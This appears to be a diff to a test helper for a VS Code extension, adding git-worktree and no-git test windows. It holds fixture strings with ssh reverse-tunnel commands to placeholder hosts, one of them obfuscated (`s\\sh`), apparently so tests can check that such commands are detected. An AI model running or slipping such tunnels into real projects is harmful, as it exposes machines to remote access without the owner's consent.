@@ -1,6 +1,6 @@
 /** The windows that tests run in: what is open in each, and whether its folder is trusted. */
 import { execFileSync } from "node:child_process";
-import { mkdirSync, rmSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { makeExample } from "../../examples/make-example.mjs";
 
@@ -9,12 +9,13 @@ export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
 
 /**
  * `name`: `test/vscode/in-host/<name>.window.ts` runs in it. `prepare` fills a new folder and says what to open. `isBench`: it
- * measures, and runs only when it is named.
+ * measures, and runs only when it is named. `env`: set for the server and all it starts.
  * @typedef {{
  *   name: string,
  *   hasTrust?: boolean,
  *   isBench?: boolean,
  *   settings?: object,
+ *   env?: (folder: string) => Record<string, string>,
  *   prepare: (folder: string) => { folder: string } | { workspace: string },
  * }} TestWindow
  */
@@ -31,6 +32,13 @@ export const windows = [
   },
   { name: "unborn", prepare: (folder) => ({ folder: unbornRepository(folder) }) },
   { name: "reading", prepare: (folder) => ({ folder: readingRepository(folder) }) },
+  { name: "worktree", prepare: (folder) => ({ folder: linkedWorktree(folder) }) },
+  {
+    name: "no-git",
+    // Nothing on the PATH, and where a git is for whoever names it. As from a command line: else the server asks a shell for another PATH.
+    env: (folder) => ({ PATH: path.join(folder, "no-programs"), VSCODE_CLI: "1", COUNTERSIGN_TEST_GIT: gitOnPath() }),
+    prepare: (folder) => ({ folder: reviewersRepository(folder) }),
+  },
   { name: "plain-folder", prepare: (folder) => ({ folder: plainFolder(folder) }) },
   { name: "two-folders", prepare: twoFolders },
   { name: "start", isBench: true, prepare: (folder) => ({ folder: plainFolder(folder) }) },
@@ -60,6 +68,19 @@ export function reviewersRepository(folder) {
   changedRepository(folder);
   git(folder, "config", "user.name", "Ada");
   git(folder, "config", "user.email", "ada@example.invalid");
+  return folder;
+}
+
+/** A worktree on a branch of its own; the repository it belongs to lies beside it. */
+function linkedWorktree(folder) {
+  const main = `${folder}-main`;
+  reviewersRepository(main);
+  git(main, "worktree", "add", "-q", "-b", "agent", folder);
+  write(folder, {
+    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n`,
+    "README.md": "# A project\n\nMore.\n",
+  });
+  git(folder, "commit", "-q", "-a", "-m", "Say more");
   return folder;
 }
 
@@ -146,6 +167,11 @@ export function write(folder, files) {
     mkdirSync(path.dirname(file), { recursive: true });
     writeFileSync(file, text);
   }
+}
+
+function gitOnPath() {
+  const folders = (process.env.PATH ?? "").split(path.delimiter).filter((folder) => path.isAbsolute(folder));
+  return folders.map((folder) => path.join(folder, "git")).find((file) => existsSync(file)) ?? "";
 }
 
 export function git(folder, ...words) {
